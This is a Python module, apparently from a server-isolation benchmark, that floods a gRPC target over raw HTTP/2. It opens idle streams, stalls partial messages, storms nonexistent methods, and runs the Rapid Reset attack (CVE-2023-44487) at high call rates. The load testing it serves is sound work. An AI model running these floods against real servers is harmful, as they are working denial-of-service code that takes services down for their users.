"""Floods of a raw HTTP/2 client that no gRPC library would send."""

import asyncio
import contextlib
import time
from collections.abc import Awaitable, Callable

from bench.isolation import frames, raw
from bench.isolation.raw import Connection, ConnectionEndedError
from bench.isolation.target import STREAMING, UNARY, Target

CONNECTIONS = 4
STREAMS = 152
"""Calls that are kept open, over all connections."""
MAX_PER_SECOND = 20_000
"""Maximum number of calls that are begun, over all connections."""
_PAUSE_SECONDS = 0.05
_BURST = 50
_NOWHERE = "/sightline.nowhere.v1.NoService/NoMethod"


async def headers_only(target: Target) -> int:
    """Begin calls and never send a message; replace each call that the server ends."""
    return await _on_connections(target, lambda connection: _keep_begun(target, connection, b""))


async def half_messages(target: Target) -> int:
    """Send most of one large message on each stream, and stop."""
    size = target.almost_too_large
    partial = frames.message_head(size) + bytes(size * 9 // 10)
    return await _on_connections(
        target, lambda connection: _keep_begun(target, connection, partial)
    )


async def unknown_methods(target: Target) -> int:
    """Call methods that do not exist, as fast as the server accepts them."""
    block = frames.block(_NOWHERE)
    return await _on_connections(
        target,
        lambda connection: _storm(
            connection, lambda number: frames.headers(number, block, end=True)
        ),
    )


async def rapid_reset(target: Target) -> int:
    """Begin calls and reset each of them at once (CVE-2023-44487)."""
    block = target.block(UNARY[target.service])
    return await _on_connections(
        target,
        lambda connection: _storm(
            connection, lambda number: frames.headers(number, block) + frames.reset(number)
        ),
    )


async def _on_connections(target: Target, flood: Callable[[Connection], Awaitable[None]]) -> int:
    """Return the number of calls begun until the end of the flood."""
    counts = [0] * CONNECTIONS

    async def keep(number: int) -> None:
        while True:
            with contextlib.suppress(ConnectionEndedError, OSError):
                async with raw.connect(target.address) as connection:
                    try:
                        await flood(connection)
                    finally:
                        counts[number] += connection.begun
            await asyncio.sleep(_PAUSE_SECONDS)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(target.left):
            await asyncio.gather(*map(keep, range(CONNECTIONS)))
    return sum(counts)


async def _keep_begun(target: Target, connection: Connection, payload: bytes) -> None:
    """Keep calls open, each with the same bytes of a message, until the connection ends."""
    blocks = [target.block(methods[target.service]) for methods in (UNARY, STREAMING)]

    async def keep(number: int) -> None:
        while True:
            stream = connection.open(blocks[number % 2])
            await connection.send(stream, payload)
            await stream.wait()
            await asyncio.sleep(_PAUSE_SECONDS)

    async with asyncio.TaskGroup() as group:
        for number in range(STREAMS // CONNECTIONS):
            group.create_task(keep(number))


async def _storm(connection: Connection, call: Callable[[int], bytes]) -> None:
    """Begin calls in bursts, as fast as the server accepts them, up to the maximum."""
    began, share = time.monotonic(), MAX_PER_SECOND / CONNECTIONS
    while True:
        connection.write(b"".join(call(connection.number()) for _ in range(_BURST)))
        await connection.drain()
        ahead = connection.begun / share - (time.monotonic() - began)
        await asyncio.sleep(max(ahead, 0.0))
